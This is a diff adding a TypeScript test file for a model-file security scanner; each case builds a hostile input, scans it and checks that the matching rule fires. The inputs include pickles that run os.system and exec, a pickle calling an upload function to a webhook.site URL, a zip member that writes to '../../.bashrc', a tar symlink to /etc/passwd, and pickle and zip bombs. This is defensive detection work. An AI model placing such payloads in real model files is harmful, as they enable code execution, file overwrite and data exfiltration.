@@ -1,0 +1,211 @@
+// The catalog's examples are claims: `modelaudit rules MA101` tells users that
+// this input triggers this rule. Each case here builds the input its rule's
+// `example` describes (or, where building it takes a real library, the committed
+// fixture made that way), scans it as a user would and asserts the rule fires.
+// A rule added to the catalog without a case here fails the last test.
+import assert from "node:assert/strict";
+import { type RuleId, RULES } from "../../core/rules.ts";
+import { scan, type ScanOptions } from "../../engine/scan.ts";
+import { buildZip, PAYLOAD as ZIP_PICKLE } from "../scanners/zip/_zip.ts";
+import { concat, END, entry } from "../scanners/tar/_tar.ts";
+
+const latin1 = (text: string) => Uint8Array.from(text, (c) => c.charCodeAt(0));
+const fixture = (path: string) => Deno.readFile(new URL(`../../fixtures/${path}`, import.meta.url));
+
+/** `os.system('echo pwned')` at protocol 0, the catalog's own MA101 example. */
+const OS_SYSTEM = latin1("cos\nsystem\n(S'echo pwned'\ntR.");
+
+async function gzip(bytes: Uint8Array): Promise<Uint8Array> {
+  const stream = new Blob([bytes.slice()]).stream().pipeThrough(new CompressionStream("gzip"));
+  return new Uint8Array(await new Response(stream).arrayBuffer());
+}
+
+/** A protocol-2 list that holds the previous list twice, 30 times over: 2^30 references. */
+function doublingLists(times: number): Uint8Array {
+  const ops = [0x80, 0x02, 0x5d, 0x71, 0x00]; // PROTO 2, EMPTY_LIST, BINPUT 0
+  for (let i = 0; i < times; i++) ops.push(0x28, 0x68, 0x00, 0x32, 0x6c, 0x71, 0x00, 0x30); // MARK GET DUP LIST PUT POP
+  ops.push(0x68, 0x00, 0x2e); // BINGET 0, STOP
+  return new Uint8Array(ops);
+}
+
+/** An .npy file of `total` bytes whose header declares `shape` float64 values. */
+function npy(shape: string, total: number): Uint8Array {
+  let header = `{'descr': '<f8', 'fortran_order': False, 'shape': ${shape}, }`;
+  header = header.padEnd(Math.ceil((header.length + 11) / 64) * 64 - 11) + "\n";
+  const bytes = new Uint8Array(total);
+  bytes.set(
+    latin1(`\x93NUMPY\x01\x00${String.fromCharCode(header.length & 0xff, header.length >> 8)}${header}`),
+  );
+  return bytes;
+}
+
+/** One rule's example: the files of a scanned folder (or symbolic links out of it), and the scan's options. */
+interface ExampleCase {
+  files: Record<string, Uint8Array | { symlinkOutside: true } | { sparseBytes: number }>;
+  options?: ScanOptions;
+}
+
+const CASES: Partial<Record<RuleId, () => Promise<ExampleCase> | ExampleCase>> = {
+  MA001: () => ({ files: { "model.safetensors": OS_SYSTEM } }),
+  MA002: () => ({ files: { "weights.bin": { symlinkOutside: true } } }),
+  MA003: () => ({ files: { "checkpoint.pt": { sparseBytes: 12e9 } }, options: { maxFileSize: 1e9 } }),
+  MA004: () => ({ files: { "evil_model.pkl": latin1("(lp0\nI1\na.") }, options: { blacklist: ["evil"] } }),
+  MA005: () => ({
+    files: { "model.pkl": latin1("cmylib\nupload\n(Vhttps://webhook.site/0c1d\ntR.") },
+    options: { blacklist: ["webhook.site"] },
+  }),
+  MA006: () => ({ files: { "model.h5": latin1("\x89HDF\r\n\x1a\n" + "\0".repeat(504)) } }),
+  MA007: () => ({
+    files: { "pytorch_model.bin": Uint8Array.from({ length: 512 }, (_, i) => (i * 193 + 71) % 256) },
+  }),
+  MA008: () => ({ files: { "model.pkl": latin1("cos\nsystem\n".repeat(10_000) + ".") } }),
+  // The tar header's name field starts with PROTO 2, BINBYTES: pickle readers skip the header as bytes.
+  MA009: async () => ({ files: { "model.tar": await fixture("polyglot/malicious/tar_binbytes.tar") } }),
+  MA100: () => ({ files: { "model.pkl": latin1("cos\nsystem\n.") } }),
+  MA101: () => ({ files: { "model.pkl": OS_SYSTEM } }),
+  MA102: () => ({ files: { "model.pkl": latin1("cmylib.helpers\nmake_model\n.") } }),
+  MA103: () => ({ files: { "model.pkl": latin1("cmylib.helpers\nmake_model\n(S'resnet'\ntR.") } }),
+  MA104: () => ({ files: { "model.pkl": new Uint8Array([0x80, 0x02, 0x82, 0x01, 0x29, 0x52, 0x2e]) } }), // EXT1 1, (), REDUCE
+  // PROTO 2, EMPTY_LIST, BINPUT 0, BININT1 1, APPEND: the STOP never comes.
+  MA105: () => ({ files: { "model.pkl": new Uint8Array([0x80, 0x02, 0x5d, 0x71, 0x00, 0x4b, 0x01, 0x61]) } }),
+  // FRAME of 8 bytes, then SHORT_BINUNICODE of 17 characters and STOP: 20 bytes.
+  MA106: () => ({
+    files: {
+      "model.pkl": concat(
+        new Uint8Array([0x80, 4, 0x95, 8, 0, 0, 0, 0, 0, 0, 0, 0x8c, 17]),
+        latin1("echo pwned; ls -l."),
+      ),
+    },
+  }),
+  MA107: () => ({
+    files: {
+      "model.pkl": latin1(`(dp0\nVpayload\nV${btoa("\x80\x04" + String.fromCharCode(...OS_SYSTEM))}\ns.`),
+    },
+  }),
+  MA108: () => ({
+    files: { "model.pkl": latin1("cbuiltins\nexec\n(Vimport os; os.system('echo pwned')\ntR.") },
+  }),
+  MA109: () => ({ files: { "model.pkl": doublingLists(30) } }),
+  MA110: () => ({ files: { "model.pkl": latin1("\x80\x02" + "(".repeat(10_001) + "N.") } }),
+  MA111: () => ({ files: { "model.pkl": latin1("(dp0\nVcmd\nVimport os; os.system('echo pwned')\ns.") } }),
+  MA200: async () => ({
+    files: {
+      "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, local: { name: "other.pkl" } }]),
+    },
+  }),
+  MA201: async () => ({
+    files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, flags: 1 }]) },
+  }),
+  MA202: async () => ({
+    files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, crc32: 0x12345678 }]) },
+  }),
+  MA203: async () => ({
+    files: {
+      "model.zip": await buildZip([{ name: "a.pkl", data: ZIP_PICKLE }, {
+        name: "b.pkl",
+        data: ZIP_PICKLE,
+        offset: 0,
+      }]),
+    },
+  }),
+  MA204: async () => ({
+    files: { "model.zip": await buildZip([{ name: "../../.bashrc", data: latin1("echo pwned\n") }]) },
+  }),
+  MA205: () => ({
+    files: { "model.tar": concat(entry("config.json", "", { type: "2", linkname: "/etc/passwd" }), END) },
+  }),
+  MA206: async () => ({ files: { "model.zip": await fixture("zip/malicious/deflate_bomb.zip") } }),
+  MA207: async () => ({
+    files: { "model.pkl": concat(OS_SYSTEM, await buildZip([{ name: "data.pkl", data: latin1("N.") }])) },
+  }),
+  MA208: async () => ({ files: { "model.zip": await fixture("zip/malicious/encrypted_member.zip") } }),
+  MA209: async () => {
+    const whole = await gzip(concat(OS_SYSTEM.subarray(0, -1), latin1(`S'${"x".repeat(4096)}'\n0.`)));
+    return { files: { "model.pkl.gz": whole.subarray(0, whole.length >> 1) } };
+  },
+  MA210: async () => ({
+    files: {
+      "model.zip": await buildZip(["a.pkl", "b.pkl", "c.pkl"].map((name) => ({ name, data: latin1("N.") }))),
+    },
+    options: { limits: { maxMembers: 2 } },
+  }),
+  MA211: async () => ({
+    files: {
+      "model.zip": await buildZip([{ name: "archive/data.pkl", data: latin1("N.") }, {
+        name: "archive/data.pkl",
+        data: ZIP_PICKLE,
+      }]),
+    },
+  }),
+  MA212: async () => ({
+    files: { "model.zip": await buildZip([{ name: "data.pkl", data: ZIP_PICKLE, method: 98 }]) },
+  }),
+  MA213: async () => ({ files: { "model.7z": await fixture("sevenzip/suspicious/encrypted_header.7z") } }),
+  // torch.save's own members (stored, read from the committed checkpoint) and a script beside data.pkl.
+  MA300: async () => ({
+    files: { "model.pt": await withMember("pytorch/benign/state_dict.pt", "archive/payload.sh") },
+  }),
+  MA301: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/bad_torch2_metadata.pt") } }),
+  MA302: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/torchscript_os_system.pt") } }),
+  MA303: async () => ({ files: { "model.pt": await fixture("pytorch/malicious/upper_case_data_pkl.pt") } }),
+  MA310: () => ({ files: { "weights.npy": npy("(1000000,)", 200) } }),
+};
+
+/** Rules no format produces yet, with the reason; each must leave this list once one does. */
+const NOT_PRODUCED_YET: Partial<Record<RuleId, string>> = {
+  MA010:
+    "no scanner opens sibling files yet (ONNX external data will); engine/siblings.ts's example shows the check",
+};
+
+/** The members of the stored zip at `path` (as its central directory lists them), plus `extra` holding a script. */
+async function withMember(path: string, extra: string): Promise<Uint8Array> {
+  const { ZipReader, Uint8ArrayReader, Uint8ArrayWriter } = await import("@zip.js/zip.js");
+  const reader = new ZipReader(new Uint8ArrayReader(await fixture(path)));
+  const members = [];
+  for (const member of await reader.getEntries()) {
+    if (!member.directory) {
+      members.push({ name: member.filename, data: await member.getData(new Uint8ArrayWriter()) });
+    }
+  }
+  await reader.close();
+  return buildZip([...members, { name: extra, data: latin1("#!/bin/sh\necho pwned\n") }]);
+}
+
+async function rulesFound(example: ExampleCase): Promise<string[]> {
+  const root = await Deno.makeTempDir({ prefix: "modelaudit_rule_example_" });
+  const outside = await Deno.makeTempFile({ prefix: "modelaudit_outside_" });
+  try {
+    const dir = `${root}/models`;
+    await Deno.mkdir(dir);
+    for (const [name, content] of Object.entries(example.files)) {
+      const path = `${dir}/${name}`;
+      if (content instanceof Uint8Array) await Deno.writeFile(path, content);
+      else if ("symlinkOutside" in content) await Deno.symlink(outside, path);
+      else {
+        using file = await Deno.create(path);
+        await file.truncate(content.sparseBytes); // sparse: nothing is written, and the scan reads none of it
+      }
+    }
+    const result = await scan([dir], { sandbox: false, ...example.options });
+    return [...result.findings, ...result.files.flatMap((file) => file.findings)].map((finding) =>
+      finding.rule
+    );
+  } finally {
+    await Deno.remove(root, { recursive: true });
+    await Deno.remove(outside);
+  }
+}
+
+for (const [id, build] of Object.entries(CASES)) {
+  Deno.test(`${id}'s catalog example triggers it: ${RULES[id as RuleId].example}`, async () => {
+    const found = await rulesFound(await build!());
+    assert.ok(found.includes(id), `${id} not among ${JSON.stringify(found)}`);
+  });
+}
+
+Deno.test("every rule in the catalog has its example checked here, or a reason why no format produces it yet", () => {
+  const covered = new Set([...Object.keys(CASES), ...Object.keys(NOT_PRODUCED_YET)]);
+  const missing = Object.keys(RULES).filter((id) => !covered.has(id));
+  assert.deepEqual(missing, [], "add a case to tests/core/rule_examples_test.ts for each");
+  for (const id of Object.keys(NOT_PRODUCED_YET)) assert.ok(!(id in CASES), id);
+});
